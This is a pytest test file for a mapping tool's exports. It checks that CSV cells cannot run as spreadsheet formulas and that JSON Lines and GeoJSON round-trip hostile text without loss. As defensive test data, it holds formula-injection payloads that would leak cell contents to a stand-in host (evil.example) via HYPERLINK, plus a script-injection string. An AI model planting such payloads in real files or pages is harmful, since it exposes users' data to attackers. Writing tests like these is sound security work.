"""Exports are safe to open anywhere (issue "Hostile files can't hurt the analyst").

Finding 3: CSV cells that a spreadsheet would run as formulas. Finding 4: KML that one
control character makes unreadable, and descriptions that KML viewers render as HTML. And
JSON Lines / GeoJSON, which must read back to an equal frame whatever the text holds (but
for two surrogate code points in a row, which JSON reads as the one character they encode).
Every hostile value here is made by the test itself.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from sitmap.cli import main
from sitmap.events import DTYPES, synthetic_events, validate, write_events
from sitmap.mapping import export_csv, export_geojson

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_COLUMNS = [c for c, t in DTYPES.items() if t == "string"]
# The columns a user's text reaches (the others are ids or fixed vocabularies).
HOSTILE_COLUMNS = ("title", "source", "sources", "place", "passage", "toponym_text",
                   "date_text", "figures_conflict")
HOSTILE_TEXT = [
    "".join(chr(c) for c in range(0x20)),  # every C0 control, NUL first
    "\ufffe\uffff \u2028\u2029 \x7f\x85",
    "lone \ud800 high, lone \udfff low",
    '</script><script>alert(1)</script> ]]> <!-- "quoted" \\ back\\slash',
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "\u202eRTL override, e\u0301 combining, emoji \U0001f4a5, \u200bzero-width",
    "",
]


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _starts_a_formula(cell: str) -> bool:
    """A cell a spreadsheet would run: it starts with a formula character and is no number."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


# ---- finding 3: CSV -------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_text_cells_never_start_a_formula(start: str, tmp_path: Path) -> None:
    frame = synthetic_events(4, seed=5)
    payload = f'{start}HYPERLINK("http://evil.example/?leak="&B2,"open")'
    for column in ("title", "passage", "source", "sources", "place"):
        frame[column] = payload
    frame["lon"] = -abs(frame["lon"])  # a negative longitude stays a number
    path = tmp_path / "events.csv"
    export_csv(frame, path)
    rows = _csv_rows(path.read_bytes().decode("utf-8"))  # a CR in a cell stays a CR
    assert len(rows) == len(frame)
    for row in rows:
        assert not [c for c, cell in row.items() if _starts_a_formula(cell)], row
        assert row["title"] == row["passage"] == row["place"] == "'" + payload
        assert float(row["lon"]) < 0 and row["lon"].startswith("-")
    back = pd.read_csv(path, keep_default_na=False)
    assert back["lon"].dtype == "float64" and (back["lon"] < 0).all()


def test_cli_events_and_export_csv_neutralise_an_articles_formula_title(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A .txt file's first line is its title: here, a formula that would phone home.
    article = tmp_path / "a.txt"
    article.write_text('=HYPERLINK("http://evil.example/","open")\n'
                       "ALMATY, Jan 5, 2022 - Protesters gathered in Almaty on Wednesday as "
                       "police detained 12 in Astana.\n+- @SUM(1+1) in Kyiv on 6 January 2022\n",
                       encoding="utf-8")
    assert main(["events", str(article), "--format", "csv"]) == 0
    printed = _csv_rows(capsys.readouterr().out)
    out = tmp_path / "map.csv"
    assert main(["export", str(article), "-o", str(out)]) == 0
    exported = _csv_rows(out.read_bytes().decode("utf-8"))
    for rows in (printed, exported):
        assert rows
        assert {r["title"] for r in rows} == {"'=HYPERLINK(\"http://evil.example/\",\"open\")"}
        assert not [cell for r in rows for cell in r.values() if _starts_a_formula(cell)]


# ---- JSON Lines and GeoJSON stay lossless ------------------------------------------------


@pytest.fixture
def hostile() -> pd.DataFrame:
    frame = synthetic_events(len(HOSTILE_TEXT) * 2, seed=6)
    for k in range(len(frame)):
        text = HOSTILE_TEXT[k % len(HOSTILE_TEXT)]
        for column in HOSTILE_COLUMNS:
            frame.loc[k, column] = f"{column}{k}:{text}"
        frame.loc[k, "event_id"] = f"{k}{text}"
    frame.loc[0, ["date_start", "date_end"]] = pd.NaT
    frame.loc[0, ["date_precision", "date_basis"]] = "unknown"
    frame.loc[1, "killed"] = 12
    return validate(frame)


def _frame(rows: list[dict[str, object]]) -> pd.DataFrame:
    return validate(pd.DataFrame(rows, columns=list(DTYPES)))


def test_jsonl_reads_back_to_an_equal_frame(hostile: pd.DataFrame, tmp_path: Path) -> None:
    path = tmp_path / "events.jsonl"
    write_events(hostile, path, format="jsonl")
    text = path.read_bytes().decode("utf-8")  # strict: the file is valid UTF-8
    back = _frame([json.loads(line) for line in text.splitlines()])
    pd.testing.assert_frame_equal(back, hostile, check_dtype=True)


def test_geojson_reads_back_to_an_equal_frame(hostile: pd.DataFrame, tmp_path: Path) -> None:
    path = tmp_path / "events.geojson"
    export_geojson(hostile, path)
    doc = json.loads(path.read_bytes().decode("utf-8"))
    back = _frame([feature["properties"] for feature in doc["features"]])
    pd.testing.assert_frame_equal(back, hostile, check_dtype=True)
    assert [f["id"] for f in doc["features"]] == list(hostile["event_id"])
